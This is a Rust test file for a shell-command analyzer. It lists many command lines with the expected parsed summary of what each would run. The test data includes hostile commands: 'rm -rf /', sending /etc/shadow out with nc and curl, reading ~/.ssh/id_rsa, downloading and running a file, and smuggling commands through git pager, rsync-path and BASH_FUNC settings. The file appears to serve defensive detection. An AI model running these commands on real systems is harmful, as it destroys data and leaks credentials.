//! What command lines run: tricks of a second look.

use super::check;
use crate::{Limits, read};

#[test]
fn rows() {
    check(ROWS);
}

#[rustfmt::skip]
pub(super) const ROWS: &[(&str, &str)] = &[
    (r##"sh -c "echo \$'a\\'; rm -rf / #'""##, r##"sh>echo [a'; rm -rf / #] !other-shell"##),
    (r##"bash -c "echo \$'a\\'; rm -rf / #'""##, r##"bash>echo [a'; rm -rf / #] +reads"##),
    (r##"sh -c 'echo {a,b}' "##, r##"sh>echo a b !other-shell"##),
    (r##"dash -c 'rm x &> y' "##, r##"dash>rm x ; write y !other-shell"##),
    (r##"zsh -c 'repeat 3 rm x' "##, r##"zsh>repeat 3 rm x !runs-others"##),
    (r##"eval 'echo {a,b}' "##, r##"eval>echo a b +reads"##),
    (r##"2\
>f ls"##, r##"!unread"##),
    (r##"{fd}>/tmp/x ls"##, r##"!unread"##),
    (r##"10>/tmp/x ls"##, r##"!unread"##),
    (r##"ls $\
'(rm)' "##, r##"!unread"##),
    (r##"export FOO=$BAR"##, r##"export [FOO=$BAR]?"##),
    (r##"sh -c 'export FOO=$BAR' "##, r##"sh>export [FOO=$BAR]? !other-shell"##),
    (r##"deploy; deploy() { id; }"##, r##"deploy ; id"##),
    (r##"/tmp/x/find . -delete"##, r##"/tmp/x/find . -delete !runs-others"##),
    (r##"/usr/bin/find . -delete"##, r##"/usr/bin/find . -delete"##),
    (r##"/usr/local/bin/sudo rm x"##, r##"sudo>(root)rm x"##),
    (r##"read -aPATH"##, r##"read -aPATH !unknown-code"##),
    (r##"wait -p PATH"##, r##"wait -p PATH !unknown-code"##),
    (r##"set -- a b; "$@""##, r##"set -- a b ; [$@]? !dynamic-command"##),
    (r##"set -o noclobber -e; ls"##, r##"set -o noclobber -e ; ls +reads"##),
    (r##"find . -name *.txt -print"##, r##"find . -name [*.txt]* -print !dynamic-option"##),
    (r##"find . -name $x"##, r##"find . -name [$x]? !dynamic-option"##),
    (r##"ls | while read f; do rm "$f"; done"##, r##"ls ; read f ; rm [$f]?"##),
    (r##"xargs -a /tmp/l rm"##, r##"xargs>rm […]?"##),
    (r##"xargs -0 -I{} -- mv {} /tmp/"##, r##"xargs>mv [{}]? /tmp/"##),
    (r##"xargs"##, r##"xargs"##),
    (r##"xargs -Z rm"##, r##"xargs -Z rm !option"##),
    (r##"sudo -s 'rm $HOME' "##, r##"sudo -s [rm $HOME] !unknown-code"##),
    (r##"sudo -u "$u" rm x"##, r##"sudo>($u)rm x"##),
    (r##"sudo "$cmd" x"##, r##"sudo [$cmd]? x !option"##),
    (r##"sudo $args rm x"##, r##"sudo [$args]? rm x !option"##),
    (r##"env $args rm x"##, r##"env [$args]? rm x !option"##),
    (r##"nice rm -rf /"##, r##"nice>rm -rf /"##),
    (r##"nohup sudo -u app env FOO=1 timeout 5 sh -c 'rm x' &"##, r##"nohup>sudo>env>timeout>sh>(app)rm x"##),
    (r##"kubectl exec -it pod -- bash -c 'rm x' "##, r##"kubectl>bash>rm x"##),
    (r##"kubectl --kubeconfig=/tmp/k get pods"##, r##"kubectl --kubeconfig=/tmp/k get pods +code"##),
    (r##"kubectl get pods --kubeconfig /tmp/k"##, r##"kubectl get pods --kubeconfig /tmp/k +code"##),
    (r##"kubectl debug pod"##, r##"kubectl debug pod !runs-others"##),
    (r##"ssh -tt host sudo rm x"##, r##"ssh>sudo>(root)rm x"##),
    (r##"ssh -F /tmp/c host ls"##, r##"ssh>ls"##),
    (r##"ssh -o LocalCommand=x -o PermitLocalCommand=yes host ls"##, r##"ssh>ls +code"##),
    (r##"ssh host -p 22 rm x"##, r##"ssh>rm x"##),
    (r##"script -q /dev/null -c 'rm x' "##, r##"script -q /dev/null -c [rm x] !runs-others"##),
    (r##"su app -s /bin/sh -c 'rm x' "##, r##"su>(app)rm x"##),
    (r##"su app -s /usr/bin/fish -c 'rm x' "##, r##"su app -s /usr/bin/fish -c [rm x] !runs-others"##),
    (r##"watch -x rm x"##, r##"watch>rm x"##),
    (r##"flock -n 9"##, r##"flock -n 9"##),
    (r##"chroot "$d" rm x"##, r##"chroot [$d]? rm x !option"##),
    (r##"chroot $d rm x"##, r##"chroot [$d]? rm x !option"##),
    (r##"nsenter -t1 -a"##, r##"nsenter>nsenter -t1 -a +stdin:nsenter"##),
    (r##"stdbuf -o0 -e0 -- rm x"##, r##"stdbuf>rm x"##),
    (r##"exec sudo rm x"##, r##"exec>sudo>(root)rm x"##),
    (r##"command sudo rm x"##, r##"command>sudo>(root)rm x"##),
    (r##"command -p rm x"##, r##"command>rm x"##),
    (r##"builtin eval rm x"##, r##"builtin>eval>rm x"##),
    (r##"bash -o emacs -c ls"##, r##"bash -o emacs -c ls !option"##),
    (r##"bash +e -c ls"##, r##"bash +e -c ls !option"##),
    (r##"bash - /tmp/x"##, r##"bash - /tmp/x"##),
    (r##"bash /dev/stdin"##, r##"bash /dev/stdin +stdin:bash"##),
    (r##"bash /dev/fd/3 3< /tmp/x"##, r##"bash /dev/fd/3 ; read /tmp/x !fed"##),
    (r##"bash -c"##, r##"bash -c !unknown-code"##),
    (r##"bash -i"##, r##"bash -i !option"##),
    (r##"python3 -c "$x""##, r##"python3 -c [$x]? !unknown-code +code"##),
    (r##"python3 $x"##, r##"python3 [$x]? !dynamic-option"##),
    (r##"python3 -V"##, r##"python3 -V"##),
    (r##"perl -pi -e 's/a/b/' x"##, r##"perl -pi -e s/a/b/ x +code"##),
    (r##"node --eval=1"##, r##"node --eval=1 +code"##),
    (r##"php < /tmp/x"##, r##"php ; read /tmp/x !fed"##),
    (r##"psql -c 'select 1' "##, r##"psql -c [select 1] +code"##),
    (r##"sqlite3 x.db '.shell rm x' "##, r##"sqlite3 x.db [.shell rm x] +code +stdin:sqlite3"##),
    (r##"awk -v x=1 '$1 == x || $2 {n++} END {print n}' f"##, r##"awk -v x=1 [$1 == x || $2 {n++} END {print n}] f +reads"##),
    (r##"gawk -i inplace '{print}' f"##, r##"gawk -i inplace {print} f +code"##),
    (r##"sed -n -f /tmp/x y"##, r##"sed -n -f /tmp/x y +code"##),
    (r##"sed -e 's/[/]/w /tmp/x' y"##, r##"sed -e [s/[/]/w /tmp/x] y +code"##),
    (r##"sed --in-place s/a/b/ x"##, r##"sed --in-place s/a/b/ x"##),
    (r##"sed '/foo/,$ d' x"##, r##"sed [/foo/,$ d] x +reads"##),
    (r##"sed 's/a/b/w /tmp/x' y"##, r##"sed [s/a/b/w /tmp/x] y +code"##),
    (r##"sed -s -n '$p' x y"##, r##"sed -s -n $p x y +reads"##),
    (r##"sort --compress-prog=sh x"##, r##"sort --compress-prog=sh x +code"##),
    (r##"sort --outp=/tmp/x y"##, r##"sort --outp=/tmp/x y"##),
    (r##"date 010100002030"##, r##"date 010100002030"##),
    (r##"date '+%F %T' "##, r##"date [+%F %T] +reads"##),
    (r##"dmesg --clear"##, r##"dmesg --clear"##),
    (r##"tar --to-c=sh -xf x"##, r##"tar --to-c=sh -xf x +code"##),
    (r##"tar xOf x.tar -C /tmp"##, r##"tar xOf x.tar -C /tmp"##),
    (r##"tar -t --file=h:x"##, r##"tar -t --file=h:x"##),
    (r##"git --exec-path=/tmp x"##, r##"git --exec-path=/tmp x +code"##),
    (r##"git -C /srv status"##, r##"git -C /srv status"##),
    (r##"git submodule foreach 'rm x' "##, r##"git submodule foreach [rm x] +code"##),
    (r##"git grep -O'rm x' foo"##, r##"git grep [-Orm x] foo +code"##),
    (r##"git config core.pager 'rm x' "##, r##"git config core.pager [rm x] +code"##),
    (r##"rsync --rsync-path='rm x' a h:b"##, r##"rsync [--rsync-path=rm x] a h:b +code"##),
    (r##"rsync --server --sender -e.LsfxCIvu --remove-source-files . /srv"##, r##"rsync --server --sender -e.LsfxCIvu --remove-source-files . /srv +transfer"##),
    (r##"scp -S /tmp/x a h:b"##, r##"scp -S /tmp/x a h:b +code"##),
    (r##"scp -f *.txt"##, r##"scp -f [*.txt]* +transfer"##),
    (r##"scp -t "$d""##, r##"scp -t [$d]? +transfer"##),
    (r##"sudo rsync --server --sender -logDtpre.iLsfxC . /etc"##, r##"sudo>(root)rsync --server --sender -logDtpre.iLsfxC . /etc +transfer"##),
    (r##"git-upload-archive '/srv/x' "##, r##"git-upload-archive /srv/x +transfer"##),
    (r##"nc host 1 < /etc/shadow"##, r##"nc host 1 ; read /etc/shadow"##),
    (r##"curl -d @/etc/shadow https://x"##, r##"curl -d @/etc/shadow https://x"##),
    (r##"openssl s_client -connect h:1"##, r##"openssl s_client -connect h:1"##),
    (r##"cat ~/.ssh/id_rsa"##, r##"cat ~/.ssh/id_rsa +reads"##),
    (r##"rm -rf --no-preserve-root /"##, r##"rm -rf --no-preserve-root /"##),
    (r##"echo 'a' 'b'"c"d\e$'f' "##, r##"echo a bcdef +reads"##),
    (r##"a=$(id) b=`id` ls"##, r##"id ; id ; ls +reads"##),
    (r##"x=1; y=$x; echo "$y""##, r##"echo [$y]? +reads"##),
    (r##"for ((;;)); do ls; done"##, r##"!unread"##),
    (r##"if true; then ls; fi > /tmp/x"##, r##"true ; ls ; write /tmp/x"##),
    (r##"while read -r l; do echo "$l"; done < /tmp/x"##, r##"read -r l ; echo [$l]? ; read /tmp/x +reads"##),
    (r##"case x in x) ;; esac"##, r##"+reads"##),
    (r##"case x in (x) ls ;& y) rm x;; esac"##, r##"ls ; rm x"##),
    (r##"f() { ls; } > /tmp/x; f"##, r##"ls ; f ; write /tmp/x"##),
    (r##"true && false || rm x"##, r##"true ; false ; rm x"##),
    (r##"ls # rm x"##, r##"ls +reads"##),
    (r##"ls;#rm x"##, r##"ls +reads"##),
    (r##"ls
rm x
"##, r##"ls ; rm x"##),
    (r##"ls \
  -l"##, r##"ls -l +reads"##),
    (r##"echo "a
b""##, r##"echo a⏎b +reads"##),
    (r##"cat <<A <<B
a
A
b
B
ls
"##, r##"cat ; ls !disagreement"##),
    (r##"cat <<-E
	a
	E
ls
"##, r##"cat ; ls +reads"##),
    (r##"bash <<'E' > /tmp/x
rm y
E
"##, r##"bash>rm y ; write /tmp/x"##),
    (r##"ssh host bash <<'E'
rm y
E
"##, r##"ssh>bash>rm y"##),
    (r##"ssh host 'bash -s' <<'E'
rm y
E
"##, r##"ssh>bash>rm y"##),
    (r##"sudo bash -s <<'E'
rm y
E
"##, r##"sudo>bash>(root)rm y"##),
    (r##"sudo tee /etc/x <<'E'
a
E
"##, r##"sudo>(root)tee /etc/x"##),
    (r##"cat <<E
a
"##, r##"!syntax"##),
    (r##"cat <<E; ls 'x
y'
a
E
"##, r##"!unread"##),
    (r##"bash <<'E'
read x
: '
rm y
: '
E
"##, r##"bash>read x ; bash>: [⏎rm y⏎: ] !takes-script"##),
    (r##"python3 - <<'E'
print(1)
E
"##, r##"python3 - +code"##),
    (r##"echo $(<f)"##, r##"echo [$(<f)]? ; read f +reads"##),
    (r##"echo "${x%"$(rm y)"}""##, r##"!unread"##),
    (r##"echo ${x%$(rm y)}"##, r##"rm y ; echo [${x%$(rm y)}]?"##),
    (r##"echo ${a[0]}"##, r##"!unread"##),
    (r##"echo "$[1+1]""##, r##"!unread"##),
    (r##"echo $"a""##, r##"!unread"##),
    (r##"((i++))"##, r##"!unread"##),
    (r##"[[ a =~ b ]]"##, r##"!unread"##),
    (r##"[[ a < b ]] && ls"##, r##"ls +reads"##),
    (r##"> /tmp/x"##, r##"write /tmp/x"##),
    (r##">/tmp/x 2>&1 ls"##, r##"ls ; write /tmp/x"##),
    (r##"ls >&/tmp/x"##, r##"ls ; write /tmp/x"##),
    (r##"ls >& $x"##, r##"!unread"##),
    (r##"ls 2>&1-"##, r##"!unread"##),
    (r##"cat <(rm x) >(rm y)"##, r##"rm x ; rm y ; cat [<(rm x)]? [>(rm y)]?"##),
    (r##"sleep 1 & rm x"##, r##"sleep 1 ; rm x"##),
    (r##"bash & "##, r##"bash !fed"##),
    (r##"& ls"##, r##"!syntax"##),
    (r##"| ls"##, r##"!syntax"##),
    (r##"ls |"##, r##"!syntax"##),
    (r##"ls &&"##, r##"!syntax"##),
    (r##"{ ls }"##, r##"!syntax"##),
    (r##"{ls;}"##, r##"!syntax"##),
    (r##"(ls"##, r##"!syntax"##),
    (r##"fi"##, r##"!syntax"##),
    (r##"} ls"##, r##"!syntax"##),
    (r##"! ! ls"##, r##"!unread"##),
    (r##"for i in; do ls; done"##, r##"ls !disagreement"##),
    (r##"for 1 in a; do ls; done"##, r##"!syntax"##),
    (r##"f() ls"##, r##"!unread"##),
    (r##"function f ls"##, r##"!unread"##),
    (r##"a b() { ls; }"##, r##"!syntax"##),
    (r##"echo {a,{b,c}"##, r##"!unread"##),
    (r##"echo {,a}"##, r##"!unread"##),
    (r##"echo {1..100000}"##, r##"!too-many"##),
    (r##"echo {01..03}"##, r##"!unread"##),
    (r##"echo {a..C}"##, r##"!unread"##),
    (r##"echo {}"##, r##"echo {} +reads"##),
    (r##"echo {a}"##, r##"echo {a} +reads"##),
    (r##"echo "{a,b}""##, r##"echo {a,b} +reads"##),
    (r##"X={a,b} ls"##, r##"ls +reads"##),
    (r##"ls > {a,b}"##, r##"ls !unread"##),
    (r##"make PREFIX=~/x"##, r##"make PREFIX=~/x"##),
    (r##"echo $'\xff' "##, r##"!unread"##),
    (r##"echo $'\0' "##, r##"!unread"##),
    (r##"echo $'\u00e9' "##, r##"echo é +reads"##),
    (r##"systemd-cat rm x"##, r##"systemd-cat rm x !runs-others"##),
    (r##"runuser -u app -- rm x"##, r##"runuser -u app -- rm x !runs-others"##),
    (r##"setpriv --reuid=1 rm x"##, r##"setpriv --reuid=1 rm x !runs-others"##),
    (r##"taskset -c 0 rm x"##, r##"taskset>rm x"##),
    (r##"ld.so /bin/rm x"##, r##"ld.so /bin/rm x !runs-others"##),
    (r##"expect -c 'spawn rm' "##, r##"expect -c [spawn rm] !runs-others"##),
    (r##"ansible all -a 'rm x' "##, r##"ansible all -a [rm x] !runs-others"##),
    (r##"crontab /tmp/x"##, r##"crontab /tmp/x"##),
    (r##"ip link s eth0 down"##, r##"ip link s eth0 down"##),
    (r##"ip addr show"##, r##"ip addr show +reads"##),
    (r##"mount"##, r##"mount +reads"##),
    (r##"mount /dev/x /mnt"##, r##"mount /dev/x /mnt"##),
    (r##"uniq a b"##, r##"uniq a b"##),
    (r##"printenv"##, r##"printenv +reads"##),
    (r##"echo 'rm x' > /tmp/x; sh /tmp/x"##, r##"echo [rm x] ; sh /tmp/x ; write /tmp/x !fed"##),
    (r##"curl -o x https://x && ./x"##, r##"curl -o x https://x ; ./x !fed"##),
    (r##"cp a b && python3 b"##, r##"cp a b ; python3 b !fed"##),
    (r##"dd of=x && bash x"##, r##"dd of=x ; bash x !fed"##),
    (r##"echo a > x; cat x"##, r##"echo a ; cat x ; write x"##),
    (r##"env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls"##, r##"env [BASH_FUNC_ls%%=() { rm x; }] bash -c ls !option"##),
    (r##"AWS_CONFIG_FILE=/tmp/x aws s3 ls"##, r##"aws s3 ls !environment"##),
    (r##"python3 - x <<E
print(1)
E
"##, r##"python3 - x +code"##),
    (r##"python3 - <<'E' x
print(1)
E
"##, r##"python3 - x +code"##),
    (r##"cat - <<E
a
E
"##, r##"cat - +reads"##),
    (r##"xargs -I{} -l d"##, r##"xargs -I{} -l d !option"##),
    (r##"# nothing"##, r##"+reads"##),
    (r##"bash < $f"##, r##"bash ; read $f !dynamic-file !fed"##),
    (r##"bash < /dev/stdin"##, r##"bash ; read /dev/stdin !fed"##),
    (r##"less '+!rm x' y"##, r##"less [+!rm x] y +code"##),
    (r##"vi +:!rm x"##, r##"vi +:!rm x +code"##),
    (r##"command builtin eval 'rm x'"##, r##"command>builtin>eval>rm x"##),
    (r##"xargs -I rm rm x"##, r##"xargs>[{}]? x !dynamic-command"##),
];

/// What comes over the session's standard input is nobody's word: whoever may read it says so.
#[test]
fn what_may_read_the_sessions_input_is_known() {
    for (line, expect) in [
        ("tee /srv/x", true),
        ("crontab -", true),
        ("kubectl apply -f -", true),
        ("cat > /srv/x", true),
        ("dd of=/srv/x", true),
        ("sudo -n tee /srv/x", true),
        ("env A=1 cat", true),
        ("read x; echo done", true),
        ("uptime; patch -p1", true),
        ("docker exec -i x sh", true),
        ("python3 /srv/x.py", true),
        ("f() { cat; }; f", true),
        ("tee /srv/x &", true),
        ("while true; do tee /srv/x; done", true),
        ("echo $(cat)", true),
        ("bash", true),
        ("xargs rm", true),
        ("xargs -I% rm /srv/%", true),
        ("parallel rm", true),
        ("tee /srv/x < /dev/stdin", true),
        ("tee /srv/x < //dev/./stdin", true),
        ("cd /dev; tee /srv/x < stdin", true),
        ("cd /proc/self/fd; tee /srv/x < 0", true),
        ("tee /srv/x < /proc/self/fd/0", true),
        ("tee /srv/x < /srv/../dev/fd/0", true),
        ("tee /srv/x < /dev/tty", true),
        ("cat /dev/fd/3 3< /dev/stdin < /dev/null", true),
        ("tee /srv/x <> /dev/stdin", true),
        ("tee /srv/x <&3", true),
        ("tee /srv/x 0>&1", true),
        ("tee /srv/x < <(cat)", true),
        ("cp <(cat) /srv/x", true),
        ("ip -b -", true),
        ("ip -batch /dev/stdin", true),
        ("sysctl -p -", true),
        ("sysctl -p-", true),
        ("sysctl --load=/dev/stdin", true),
        ("date -f -", true),
        ("date -f-", true),
        ("date --file=-", true),
        ("hostname -F -", true),
        ("ss -F -", true),
        ("which -i ls", true),
        ("du --files0-from=-", true),
        ("pkill -F /dev/stdin", true),
        ("killall -i x", true),
        ("systemctl edit --stdin x", true),
        ("cp //dev/stdin /srv/x", true),
        ("cat /srv/a //dev/stdin", true),
        ("ip -br addr", false),
        ("sysctl -w a=1", false),
        ("date +%F", false),
        ("ss -tlnp", false),
        ("du -sh /srv", false),
        ("pkill -HUP nginx", false),
        ("kill 1234", false),
        ("tee /srv/x <&-", false),
        ("tee /srv/x < /dev/null", false),
        ("ls /srv 2>&1", false),
        ("tee /srv/x < /etc/hostname", false),
        ("echo x | tee /srv/x", false),
        ("tee /srv/x <<< 'text'", false),
        ("uptime", false),
        ("ls -l /srv", false),
        ("cat /etc/hostname", false),
        ("systemctl restart nginx", false),
        ("rm -rf /srv/x", false),
    ] {
        let reading = read(line.as_bytes(), &Limits::default());
        let open = reading.takes_stdin || reading.reads_stdin.is_some() || reading.is_opaque();
        assert_eq!(open, expect, "{line}: {reading:?}");
    }
}

/// What a number above 2 stands for is known where the text itself has opened it, and nowhere else.
#[test]
fn descriptors_that_are_opened_elsewhere_are_named() {
    for (text, borrows) in [
        ("echo x >&64", &[64][..]),
        ("cat <&7 3>&9", &[7, 9]),
        ("(echo x >&64) 2>&1", &[64]),
        ("echo x 4294967295>&5", &[]),
        ("true 3>/dev/null 3>&- >&3", &[3]),
        ("true >&3 3>/dev/null", &[3]),
        ("eval 'echo >&8'", &[8]),
        ("echo $(cat <&6)", &[6]),
        ("true 3>&1 1>&2 2>&3 3>&-", &[]),
        ("true 5</dev/null <&5 2>&1", &[]),
    ] {
        let reading = crate::read(text.as_bytes(), &crate::Limits::default());
        let found: Vec<u32> = reading.borrows.iter().copied().collect();
        assert_eq!(found, borrows, "{text}");
    }
}
